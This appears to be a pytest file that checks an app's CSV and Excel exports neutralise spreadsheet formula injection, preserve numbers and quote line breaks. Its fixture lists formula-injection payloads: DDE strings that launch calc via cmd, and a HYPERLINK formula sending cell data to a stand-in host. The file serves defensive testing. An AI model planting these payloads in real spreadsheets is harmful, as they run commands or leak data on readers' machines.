"""No file that leaves Atlas can be turned against its reader: every text cell that a spreadsheet
would run as a formula gains a quote, a CR or LF inside a value is quoted in CSV (never a new row),
numbers stay numbers; and no table offers Streamlit's own download, which would bypass atlas.export.
(That the toolbar shows no download in the browser: tests/test_browser_export.py.)"""

from __future__ import annotations

import csv
import io
import re
import tomllib

import openpyxl
import pandas as pd
import pytest

from atlas.contract import DATASETS
from atlas.exports import spreadsheets as export
from atlas.imports import upload_templates as templates
from atlas.store import ROOT

# case: (text in the table, the cell as a spreadsheet must receive it)
HOSTILE = {
    "cr inside": ("Santé\r=cmd|' /C calc'!A0", "Santé\r=cmd|' /C calc'!A0"),
    "lf inside": ("Santé\n=cmd|' /C calc'!A0", "Santé\n=cmd|' /C calc'!A0"),
    "crlf inside": ("ligne 1\r\nligne 2", "ligne 1\r\nligne 2"),
    "dde": ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    "plus": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "minus": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "at": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "tab": ("\t=1+1", "'\t=1+1"),
    "cr first": ("\r=1+1", "'\r=1+1"),
    "lf first": ("\n=1+1", "'\n=1+1"),
    "hyperlink": ('=HYPERLINK("http://x.example/?"&A1;"clic")', '\'=HYPERLINK("http://x.example/?"&A1;"clic")'),
    "plain": ("Coopération ; culture", "Coopération ; culture"),
}
ACTIVE = ("=", "+", "-", "@", "\t", "\r", "\n")
CSV_NUMBER = re.compile(r"-?[0-9]+(,[0-9]+)?")  # how to_csv writes a number (decimal comma)


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "case": list(HOSTILE),
        "value": [text for text, _ in HOSTILE.values()],
        "amount_eur": [-12.5] + [1000.25] * (len(HOSTILE) - 1),
        "projects": [-3] + [2] * (len(HOSTILE) - 1),
    })


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def is_active(cell) -> bool:
    return isinstance(cell, str) and cell.startswith(ACTIVE) and not CSV_NUMBER.fullmatch(cell)


def test_csv_quotes_line_breaks_and_neutralises_formulas():
    frame = hostile_frame()
    data = export.to_csv(frame)
    table = read_csv(data)
    assert len(table) == 1 + len(frame)  # a CR or LF inside a value starts no row
    assert table[0] == ["case", "value", "amount_eur", "projects"]
    got = {row[0]: row[1] for row in table[1:]}
    assert got == {case: expected for case, (_, expected) in HOSTILE.items()}
    assert [row[2] for row in table[1:3]] == ["-12,5", "1000,25"]  # a negative amount stays a number
    assert [row[3] for row in table[1:3]] == ["-3", "2"]
    assert not [cell for row in table for cell in row if is_active(cell)]
    text = data.decode("utf-8-sig")
    assert '"Santé\r=cmd|\' /C calc\'!A0"' in text  # the bare CR is inside quotes
    assert '"Santé\n=cmd|\' /C calc\'!A0"' in text
    # Outside quotes, lines end with CRLF only: splitting on it gives the header and one line per row
    # once the quoted values are taken out.
    unquoted = re.sub(r'"(?:[^"]|"")*"', "", text)
    assert "\r" not in unquoted.replace("\r\n", "") and "\n" not in unquoted.replace("\r\n", "")
    assert unquoted.count("\r\n") == 1 + len(frame)


def test_excel_keeps_numbers_and_writes_no_formula():
    frame = hostile_frame()
    sheet = openpyxl.load_workbook(io.BytesIO(export.to_excel(frame))).active
    assert sheet.max_row == 1 + len(frame)
    cells = list(sheet.iter_rows())
    assert [c.value for c in cells[0]] == ["case", "value", "amount_eur", "projects"]
    got = {row[0].value: row[1].value for row in cells[1:]}
    assert got == {case: expected for case, (_, expected) in HOSTILE.items()}
    amount, projects = cells[1][2], cells[1][3]
    assert (amount.value, amount.data_type) == (-12.5, "n")  # a number cell, not the text « -12.5 »
    assert (projects.value, projects.data_type) == (-3, "n")
    assert not [c for row in cells for c in row if c.data_type == "f" or is_active(c.value)]


def test_text_numbers_categories_headers_and_mixed_columns():
    frame = pd.DataFrame({
        "=titre": pd.Categorical(["=1+1", "@A1"]),  # a header and a category column are text too
        "mixed": pd.Series([-12.5, "-1+1"], dtype=object),  # a number among texts stays a number
        "text_number": ["-71,208", "+32"],  # only a number: a number to every spreadsheet, no quote
        "when": pd.to_datetime(["2024-03-31", "2024-04-01"]).tz_localize("Europe/Brussels"),
    })
    out = export.prepare(frame)
    assert list(out.columns) == ["'=titre", "mixed", "text_number", "when"]
    assert out["'=titre"].tolist() == ["'=1+1", "'@A1"]
    assert out["mixed"].tolist() == [-12.5, "'-1+1"]
    assert out["text_number"].tolist() == ["-71,208", "+32"]
    rows = read_csv(export.to_csv(frame))
    assert rows[1] == ["'=1+1", "-12,5", "-71,208", "2024-03-31"]
    sheet = openpyxl.load_workbook(io.BytesIO(export.to_excel(frame))).active
    assert [c.value for c in sheet[2]][:3] == ["'=1+1", -12.5, "-71,208"]
    assert sheet["D2"].is_date and sheet["D2"].value.date().isoformat() == "2024-03-31"  # Excel has no time zones
    # A table given to st.dataframe as a list of dicts (the country profile's) exports the same way.
    assert read_csv(export.to_csv([{"titre": "=1+1", "montant": -2.5}])) == [["titre", "montant"], ["'=1+1", "-2,5"]]


def test_bytes_of_a_hostile_upload_shown_in_a_problem_table_still_export():
    # A problem table shows the offending value of an uploaded file: control characters included.
    frame = pd.DataFrame({"valeur": ["\x00=1+1", "a\x01b", "x" * 40_000], "ligne": [2, 3, 4]})
    sheet = openpyxl.load_workbook(io.BytesIO(export.to_excel(frame))).active  # openpyxl refused \x00
    assert sheet["A2"].value == "\ufffd=1+1" and sheet["A3"].value == "a\ufffdb"
    assert len(sheet["A4"].value) == export.EXCEL_CELL_MAX and sheet["A4"].value.endswith("…")
    rows = read_csv(export.to_csv(frame))
    assert [r[0] for r in rows[1:3]] == ["\ufffd=1+1", "a\ufffdb"] and len(rows) == 4


@pytest.mark.parametrize("name", list(DATASETS))
def test_templates_are_written_by_the_same_writer(name):
    ds = DATASETS[name]
    assert templates.to_csv(ds, with_example=True) == export.csv_rows([ds.column_names, templates.example_row(ds)])
    book = openpyxl.load_workbook(io.BytesIO(templates.to_excel(ds)))
    assert not [c for sheet in book for row in sheet.iter_rows() for c in row if c.data_type == "f" or is_active(c.value)]


def test_no_table_offers_streamlits_own_download():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
    # Every table goes through ui.table (our CSV and Excel under it); no file is written elsewhere.
    sources = {path.relative_to(ROOT).as_posix(): path.read_text(encoding="utf-8")
               for path in [ROOT / "app.py", *(ROOT / "pages").glob("*.py"), *(ROOT / "atlas").rglob("*.py")]}
    direct = re.compile(r"\bst\.(dataframe|data_editor|table)\(|(?<!\bexport)\.to_(csv|excel)\(|ExcelWriter\(")
    offenders = {(path, m.group(0)) for path, text in sources.items() for m in direct.finditer(text)}
    assert offenders == {("atlas/web/ui.py", "st.dataframe("), ("atlas/exports/spreadsheets.py", ".to_csv("),
                         ("atlas/exports/spreadsheets.py", ".to_excel("), ("atlas/exports/spreadsheets.py", "ExcelWriter(")}
